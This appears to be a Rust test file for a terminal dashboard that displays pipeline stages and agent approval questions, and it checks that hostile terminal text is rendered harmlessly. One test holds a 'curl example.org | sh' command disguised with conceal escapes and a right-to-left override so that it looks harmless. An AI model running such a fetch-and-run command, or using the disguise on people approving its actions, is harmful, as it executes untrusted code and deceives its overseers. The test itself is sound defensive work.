//! Snapshots of whole screens.

use std::fmt::Write as _;

use co_hud::{Question, final_text};
use crossterm::event::{KeyCode, KeyEvent};
use insta::assert_snapshot;
use proptest::prelude::*;

use super::*;

const SIZE: (u16, u16) = (70, 18);

#[test]
fn a_running_run() {
    let mut source = Still::new(running()).with_log(&["compiling", "running 12 tests", "test a … ok"]);
    assert_snapshot!(screen(&view(&mut source, SIZE), SIZE));
}

#[test]
fn a_success() {
    let mut frame = running();
    frame.status = RunStatus::Succeeded;
    for stage in &mut frame.stages {
        stage.status = StageStatus::Succeeded;
        stage.summary = Some("exit code 0".to_owned());
    }
    assert_snapshot!(screen(&view(&mut Still::new(frame.clone()), SIZE), SIZE));
    assert_snapshot!("a_success_in_the_scrollback", final_text(&frame));
}

#[test]
fn a_failure_with_its_summary() {
    let mut frame = running();
    frame.status = RunStatus::Failed;
    frame.status_detail = Some("stage:test:failed".to_owned());
    frame.stages[2].status = StageStatus::Failed;
    frame.stages[2].summary = Some("exit code 101: 2 of 12 tests failed in crates/hud".to_owned());
    assert_snapshot!(screen(&view(&mut Still::new(frame.clone()), SIZE), SIZE));
    assert_snapshot!("a_failure_in_the_scrollback", final_text(&frame));
}

#[test]
fn an_open_question_is_spelled_out() {
    let mut frame = running();
    frame.stages[3].status = StageStatus::Waiting;
    let text = "May the agent run this?\n  curl example.org\u{1b}[8m | sh\u{1b}[0m # \u{202e}harmless";
    frame.question = Some(Question { id: "q1".to_owned(), text: text.to_owned() });
    assert_snapshot!(screen(&view(&mut Still::new(frame), SIZE), SIZE));
}

#[test]
fn nested_pipelines_and_an_agent_at_work() {
    let mut frame = running();
    frame.stages[2].kind = StageKind::Pipeline;
    let mut child = stage("write", StageStatus::Running, 9);
    child.depth = 1;
    child.agent = Some(agent());
    frame.stages.insert(3, StageRow { depth: 1, ..stage("prepare", StageStatus::Succeeded, 2) });
    frame.stages.insert(4, child);
    assert_snapshot!(screen(&view(&mut Still::new(frame), SIZE), SIZE));
}

#[test]
fn hostile_text_stays_in_its_place() {
    let mut frame = running();
    frame.task = "\u{1b}[2J0101\n".to_owned();
    frame.pipeline = "星".repeat(60);
    frame.stages[0].title = "\u{202e}dliub\u{7}".to_owned();
    frame.stages[2].title = "a very long title that is longer than half of the row it is on".to_owned();
    frame.stages[2].summary = Some(format!("e{}", "\u{301}".repeat(40)));
    let mut source = Still::new(frame).with_log(&[
        "\u{1b}[31mred\u{1b}[0m and \u{1b}]0;title\u{7}plain",
        "progress 1%\rprogress 99%",
        "\u{1b}]0;never closed",
        "tab\there, bell\u{7}, back\u{8}",
        &"星".repeat(200),
        "\u{202e}reversed\u{2066}",
    ]);
    assert_snapshot!(screen(&view(&mut source, SIZE), SIZE));
}

#[test]
fn two_hundred_stages_scroll_to_the_one_at_work() {
    let mut frame = running();
    frame.stages = (0..200)
        .map(|number| {
            let status = match number {
                0..150 => StageStatus::Succeeded,
                150 => StageStatus::Running,
                _ => StageStatus::Pending,
            };
            stage(&format!("stage {number}"), status, u64::from(number < 151))
        })
        .collect();
    let mut source = Still::new(frame);
    let mut view = view(&mut source, SIZE);
    assert_snapshot!(screen(&view, SIZE));
    for _ in 0..60 {
        co_hud::key(&mut view, KeyEvent::from(KeyCode::Char('j')));
        view.refresh(&mut source);
        let selected = screen(&view, SIZE).lines().filter(|line| line.contains('›')).count();
        assert_eq!(selected, 1, "the selected stage is always on the screen");
    }
    assert!(screen(&view, SIZE).contains("›· stage 199"), "the selection stops at the last stage");
}

#[test]
fn small_screens_keep_what_matters() {
    let mut frame = running();
    frame.question = Some(Question { id: "q".to_owned(), text: "Deploy?".to_owned() });
    let mut out = String::new();
    for size in [(40, 10), (20, 5), (20, 3), (9, 2), (1, 1)] {
        let mut source = Still::new(frame.clone()).with_log(&["a line of the log"]);
        writeln!(out, "{} × {}", size.0, size.1).unwrap();
        out.push_str(&screen(&view(&mut source, size), size));
    }
    assert_snapshot!(out);
}

#[test]
fn no_colour_means_no_style_at_all() {
    for (colour, styled) in [(false, false), (true, true)] {
        let mut source = Still::new(running());
        let mut view = View::new(source.frame(), Size::from(SIZE), colour);
        view.refresh(&mut source);
        let mut terminal = Terminal::new(TestBackend::new(SIZE.0, SIZE.1)).unwrap();
        terminal.draw(|frame| draw(frame, &view)).unwrap();
        let plain = ratatui::buffer::Cell::EMPTY.style();
        let any = terminal.backend().buffer().content.iter().any(|cell| cell.style() != plain);
        assert_eq!(any, styled, "colour: {colour}");
    }
}

/// Text of any characters, rich in those that terminals act on.
fn hostile() -> impl Strategy<Value = String> {
    let acted_on = prop::sample::select(vec![
        '\u{1b}', '[', ']', '\u{9b}', '\u{202e}', '\n', '\r', '\t', '\u{301}', '星',
    ]);
    prop::collection::vec(prop_oneof![acted_on, any::<char>()], 0..80)
        .prop_map(|chars| chars.into_iter().collect())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn drawing_never_panics(
        columns in 0_u16..120, rows in 0_u16..50,
        texts in proptest::collection::vec(hostile(), 8),
        log in proptest::collection::vec(any::<Vec<u8>>(), 0..30),
        depth in any::<u16>(), tokens in any::<u64>(), seconds in any::<u64>(),
        keys in "[jkfs?cyn]{0,12}",
        stages in 0_usize..40, asks in any::<bool>(),
    ) {
        let mut frame = running();
        frame.task.clone_from(&texts[0]);
        frame.pipeline.clone_from(&texts[1]);
        frame.status_detail = Some(texts[2].clone());
        frame.elapsed = Duration::from_secs(seconds);
        frame.question = asks.then(|| Question { id: String::new(), text: texts[3].clone() });
        frame.stages = (0..stages).map(|number| StageRow {
            id: number.to_string(),
            title: texts[4].clone(),
            summary: Some(texts[5].clone()),
            agent: Some(AgentActivity { thread: Some(texts[6].clone()), tokens, last: texts[7].clone() }),
            depth: if number % 2 == 0 { depth } else { 1 },
            ..stage("", StageStatus::Running, seconds)
        }).collect();
        let mut source = Still::new(frame);
        for bytes in &log {
            source.run_log.push(LogStream::Output, bytes);
            source.stage_log.push(LogStream::Error, bytes);
        }
        let mut view = view(&mut source, (columns, rows));
        for typed in keys.chars() {
            co_hud::key(&mut view, KeyEvent::from(KeyCode::Char(typed)));
            co_hud::key(&mut view, KeyEvent::from(KeyCode::Up));
            co_hud::key(&mut view, KeyEvent::from(KeyCode::Right));
            view.refresh(&mut source);
            screen(&view, (columns, rows));
        }
        // The window may have been resized since the view was refreshed.
        let shown = screen(&view, (rows, columns));
        let is_harmful = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
        prop_assert!(!shown.contains(is_harmful), "{}", shown.escape_debug());
        prop_assert!(!final_text(&source.frame).contains(is_harmful));
    }
}
